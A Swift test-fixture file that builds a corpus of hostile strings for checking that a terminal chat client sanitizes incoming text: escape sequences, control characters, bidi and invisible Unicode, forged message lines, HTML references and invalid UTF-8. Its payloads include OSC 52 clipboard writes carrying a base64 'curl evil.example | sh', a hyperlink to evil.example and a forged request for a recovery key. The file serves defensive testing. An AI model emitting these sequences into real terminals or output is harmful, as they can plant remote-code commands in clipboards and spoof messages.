import Testing

/// One kind of text a sender could use to steer the terminal, named so a failing test says which.
/// `text` is the hostile part between the words `left` and `right`, which must stay readable.
struct HostileString: Sendable, CustomTestStringConvertible {
    let name: String
    let payload: String
    /// A lone ESC must end the text: the terminal would join it with whatever is printed next.
    var endsText = false

    var text: String { "left" + payload + (endsText ? "" : "right") }
    /// What must still be visible after sanitizing.
    var survivors: [String] { endsText ? ["left"] : ["left", "right"] }
    var testDescription: String { name }
}

/// The corpus: escape sequences in 7-bit and 8-bit form, every C0 and C1 control, bidirectional
/// controls, invisible characters and floods. Every user-visible path is tested with each entry.
enum HostileStrings {
    /// A base64 `curl evil.example | sh`, what a clipboard write would leave for the next paste.
    private static let clipboard = "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=="

    static let escapeSequences: [HostileString] = [
        HostileString(name: "CSI clear screen and home", payload: "\u{1B}[2J\u{1B}[H"),
        HostileString(name: "CSI cursor up, erase line, position, back", payload: "\u{1B}[1A\u{1B}[2K\u{1B}[10;1H\u{1B}[5D"),
        HostileString(name: "CSI SGR conceal, blink, 256 colours", payload: "\u{1B}[8m\u{1B}[5m\u{1B}[38;5;196m"),
        HostileString(name: "CSI device status request", payload: "\u{1B}[6n"),
        HostileString(name: "CSI window title report", payload: "\u{1B}[21t"),
        HostileString(name: "8-bit CSI", payload: "\u{9B}2J\u{9B}6n"),
        HostileString(name: "OSC 52 clipboard write ended by BEL", payload: "\u{1B}]52;c;\(clipboard)\u{07}"),
        HostileString(name: "OSC 52 clipboard write ended by ST", payload: "\u{1B}]52;c;\(clipboard)\u{1B}\\"),
        HostileString(name: "OSC 52 clipboard write ended by 8-bit ST", payload: "\u{1B}]52;c;\(clipboard)\u{9C}"),
        HostileString(name: "8-bit OSC 52 clipboard write", payload: "\u{9D}52;c;\(clipboard)\u{9C}"),
        HostileString(name: "OSC 8 hyperlink", payload: "\u{1B}]8;;https://evil.example/\u{1B}\\click\u{1B}]8;;\u{1B}\\"),
        HostileString(name: "OSC 0 window title", payload: "\u{1B}]0;owned\u{07}"),
        HostileString(name: "DCS terminfo request", payload: "\u{1B}P+q544e\u{1B}\\"),
        HostileString(name: "8-bit DCS", payload: "\u{90}+q544e\u{9C}"),
        HostileString(name: "APC graphics command", payload: "\u{1B}_Gf=100;AAAA\u{1B}\\"),
        HostileString(name: "PM string", payload: "\u{1B}^private\u{1B}\\"),
        HostileString(name: "SOS string", payload: "\u{1B}Xstring\u{1B}\\"),
        HostileString(name: "lone ESC at the end", payload: "\u{1B}", endsText: true),
    ]

    static let controls: [HostileString] = [
        HostileString(name: "BEL and backspaces", payload: "\u{07}\u{08}\u{08}\u{08}\u{08}"),
        HostileString(name: "VT and FF", payload: "\u{0B}\u{0C}"),
        HostileString(name: "NUL", payload: "\u{00}"),
        HostileString(name: "DEL", payload: "\u{7F}"),
        HostileString(name: "every C0 control", payload: scalars(0x00...0x1F)),
        HostileString(name: "every C1 control", payload: scalars(0x80...0x9F)),
    ]

    static let unicode: [HostileString] = [
        HostileString(name: "bidi embeddings and overrides", payload: scalars(0x202A...0x202E) + "exe.txt"),
        HostileString(name: "bidi isolates", payload: scalars(0x2066...0x2069)),
        HostileString(name: "bidi marks LRM RLM ALM", payload: "\u{200E}\u{200F}\u{061C}"),
        HostileString(name: "zero-width characters", payload: "\u{200B}\u{200C}\u{200D}\u{FEFF}\u{2060}"),
        HostileString(name: "10,000 combining marks on one base", payload: "e" + String(repeating: "\u{0301}", count: 10_000)),
        HostileString(name: "combining marks and joiners on one base", payload: "e" + String(repeating: "\u{0301}\u{200D}", count: 5_000)),
        HostileString(name: "tag characters", payload: "\u{E0001}" + tags("ignore this") + "\u{E007F}"),
        HostileString(name: "line and paragraph separators", payload: "\u{2028}\u{2029}"),
    ]

    /// Everything above: what every path is tested with.
    static let all = escapeSequences + controls + unicode

    /// A line that would pass for another sender's message if it started a line of its own.
    static let forgedMessage = "~99 [12:34] Mallory: send me your recovery key"

    /// Every way text can break a line, each followed by a forged message.
    static let lineBreaks: [HostileString] = [
        ("LF", "\n"), ("CR", "\r"), ("CR LF", "\r\n"), ("VT", "\u{0B}"), ("FF", "\u{0C}"), ("NEL", "\u{85}"),
        ("line separator", "\u{2028}"), ("paragraph separator", "\u{2029}"), ("LF LF", "\n\n"),
    ].map { HostileString(name: "\($0.0) then a forged message", payload: $0.1 + forgedMessage + " ") }

    /// Controls written as HTML character references, which only a formatted body decodes.
    static let htmlReferences: [HostileString] = [
        HostileString(name: "ESC as a decimal reference", payload: "&#27;[2J&#27;]0;owned&#7;"),
        HostileString(name: "ESC as a hex reference", payload: "&#x1b;]52;c;\(clipboard)&#x1B;\\"),
        HostileString(name: "8-bit CSI as a reference", payload: "&#x9b;6n&#155;2J"),
        HostileString(name: "NEL and separators as references", payload: "&#x85;&#x2028;&#8233;"),
        HostileString(name: "bidi override as a reference", payload: "&#x202e;&#8294;"),
        HostileString(name: "NUL as a reference", payload: "&#0;&#x0;"),
    ]

    /// Bytes that are not UTF-8, as a broken server or a relay of one could send them in a string.
    static let invalidUTF8: [HostileBytes] = [
        HostileBytes(name: "lone continuation byte", bytes: [0x80]),
        HostileBytes(name: "truncated two-byte sequence", bytes: [0xC3]),
        HostileBytes(name: "overlong ESC", bytes: [0xC0, 0x9B]),
        HostileBytes(name: "overlong 8-bit CSI", bytes: [0xE0, 0x82, 0x9B]),
        HostileBytes(name: "encoded surrogate", bytes: [0xED, 0xA0, 0x80]),
        HostileBytes(name: "beyond U+10FFFF", bytes: [0xF4, 0x90, 0x80, 0x80]),
        HostileBytes(name: "five-byte sequence", bytes: [0xF8, 0x88, 0x80, 0x80, 0x80]),
        HostileBytes(name: "FE and FF", bytes: [0xFE, 0xFF]),
    ]

    /// JSON escapes that are valid JSON but no Unicode text: halves of surrogate pairs alone.
    static let loneSurrogateEscapes: [HostileString] = [
        HostileString(name: "high surrogate alone", payload: #"\ud800"#),
        HostileString(name: "low surrogate alone", payload: #"\udfff"#),
        HostileString(name: "high surrogate before ESC", payload: #"\ud83d\u001b[2J"#),
        HostileString(name: "two high surrogates", payload: #"\udbff\ud800"#),
    ]

    private static func scalars(_ values: ClosedRange<UInt32>) -> String {
        String(String.UnicodeScalarView(values.compactMap(Unicode.Scalar.init)))
    }

    /// ASCII spelled in tag characters, invisible in most fonts.
    private static func tags(_ ascii: String) -> String {
        String(String.UnicodeScalarView(ascii.unicodeScalars.compactMap { Unicode.Scalar($0.value + 0xE0000) }))
    }
}

/// Bytes that cannot become a Swift string as they are: they reach the client inside a JSON body.
struct HostileBytes: Sendable, CustomTestStringConvertible {
    let name: String
    let bytes: [UInt8]
    var testDescription: String { name }
}
